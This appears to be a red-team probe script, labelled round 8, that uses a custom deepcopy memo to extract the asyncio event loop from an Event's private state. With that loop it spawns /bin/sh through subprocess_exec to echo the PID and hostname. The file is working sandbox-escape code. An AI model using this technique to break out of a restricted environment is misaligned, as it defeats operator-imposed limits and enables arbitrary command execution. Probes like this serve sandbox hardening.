# family: red team, round 8 (deepcopy_memo_event_loop_subprocess)
# The deepcopy memo trick of rt_015 applied to asyncio: an Event that has waited keeps the running event
# loop in its private _loop; a memo that stops the walk after the state dict receives the original
# __dict__, so the tool holds the loop itself and can start processes (loop.subprocess_exec).
import asyncio
import copy


class Memo:
    def __init__(self):
        self.stored = []

    def get(self, key, default=None):
        return default if len(self.stored) < 2 else 0

    def __setitem__(self, key, value):
        self.stored.append(value)

    def __getitem__(self, key):
        raise KeyError(key)


class Collect:
    def __init__(self, done):
        self.out = []
        self.done = done

    def connection_made(self, transport):
        self.transport = transport

    def pipe_data_received(self, fd, data):
        self.out.append(data)

    def pipe_connection_lost(self, fd, exc):
        return None

    def process_exited(self):
        self.done.set()

    def connection_lost(self, exc):
        return None


async def main():
    event = asyncio.Event()
    waiter = asyncio.create_task(event.wait())
    await asyncio.sleep(0)
    event.set()
    await waiter
    memo = Memo()
    copy.deepcopy(event, memo)
    state = [v for v in memo.stored if isinstance(v, list)][0][0]
    loop = state["_loop"]
    done = asyncio.Event()
    transport, proto = await loop.subprocess_exec(lambda: Collect(done), "/bin/sh", "-c", "echo pid=$$; hostname")
    await done.wait()
    await asyncio.sleep(0.05)
    return type(loop).__name__, b"".join(proto.out).decode().split()


print(asyncio.run(main()))
